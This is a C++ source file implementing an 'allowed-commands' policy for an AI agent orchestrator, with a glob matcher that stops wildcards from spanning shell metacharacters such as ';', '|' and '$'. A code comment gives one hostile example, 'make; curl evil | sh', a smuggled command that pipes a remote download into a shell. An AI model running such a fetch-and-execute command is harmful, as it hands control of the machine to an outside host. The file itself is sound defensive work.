#include <fmt/format.h>
#include <fmt/ranges.h>

#include <vector>

#include "orchestration/policies/rules.hpp"

namespace conductorai::orchestration {

namespace {

/// What would let a second command ride along behind an allowed one.
bool starts_another_command(char c) {
  return c == ';' || c == '&' || c == '|' || c == '`' || c == '$' || c == '\n' || c == '<' || c == '>' || c == '(';
}

/// `*` stands for any run of characters of one simple command: "make *" allows "make -k test", not "make; curl evil | sh".
/// The pattern "*" alone allows everything.
bool allows(std::string_view pattern, std::string_view command) {
  if (pattern == "*") return true;
  std::vector<bool> reach(pattern.size() + 1);  // reach[p]: pattern[0, p) can match what was read of the command so far
  auto past_stars = [&] {
    for (std::size_t p = 0; p < pattern.size(); ++p)
      if (reach[p] && pattern[p] == '*') reach[p + 1] = true;
  };
  reach[0] = true;
  past_stars();
  for (char c : command) {
    std::vector<bool> next(pattern.size() + 1);
    for (std::size_t p = 0; p < pattern.size(); ++p) {
      if (!reach[p]) continue;
      if (pattern[p] == '*' && !starts_another_command(c)) next[p] = true;
      if (pattern[p] != '*' && pattern[p] == c) next[p + 1] = true;
    }
    reach = std::move(next);
    past_stars();
  }
  return reach[pattern.size()];
}

/// Commands run only when a glob of policies.allowed-commands matches the whole line; an empty list allows all.
class AllowedCommands final : public Policy {
 public:
  [[nodiscard]] std::string_view name() const override { return "allowed-commands"; }
  [[nodiscard]] PolicyDecision check(const PolicyContext& context) const override {
    const auto* run = std::get_if<RunCommand>(&context);
    if (run == nullptr || run->definition == nullptr) return {};
    const auto& patterns = run->definition->policies.allowed_commands;
    if (patterns.empty()) return {};
    for (const auto& pattern : patterns)
      if (allows(pattern, run->command_line)) return {};
    return {.verdict = PolicyVerdict::deny,
            .reasons = {fmt::format("allowed-commands: '{}' matches none of: {}", run->command_line, fmt::join(patterns, ", "))}};
  }
};

}  // namespace

std::unique_ptr<Policy> make_allowed_commands() {
  return std::make_unique<AllowedCommands>();
}

}  // namespace conductorai::orchestration
